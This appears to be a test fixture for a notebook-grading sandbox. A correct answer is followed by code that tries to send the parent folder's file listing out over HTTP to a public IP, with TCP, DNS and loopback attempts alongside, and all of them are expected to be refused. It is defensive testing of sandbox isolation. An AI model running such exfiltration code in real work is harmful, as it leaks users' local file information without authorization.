"""A correct notebook that also tries to send its folder listing over the network: a TCP
connection to a public address, a DNS lookup, loopback and HTTP. Each must fail with the
error of a machine without a network, and the answers keep every point."""
# attack: sandbox
# expect: full-marks
# blocked: connect 1\.1\.1\.1:53 refused: \w+: \[Errno (101|99|113)\]
# escaped: NETWORK-REACHED
# %% convolve after-answer
import os
import socket
import urllib.request


def _reach(label, attempt):
    try:
        attempt()
        print(f"NETWORK-REACHED by {label}")
    except OSError as error:
        print(f"{label} refused: {type(error).__name__}: {error}")


_listing = ",".join(os.listdir(".."))
_reach("connect 1.1.1.1:53", lambda: socket.create_connection(("1.1.1.1", 53), timeout=2))
_reach("dns example.com", lambda: socket.getaddrinfo("example.com", 80))
_reach("loopback 127.0.0.1:22", lambda: socket.create_connection(("127.0.0.1", 22), timeout=2))
_reach("http", lambda: urllib.request.urlopen("http://1.1.1.1/?" + _listing, timeout=2))
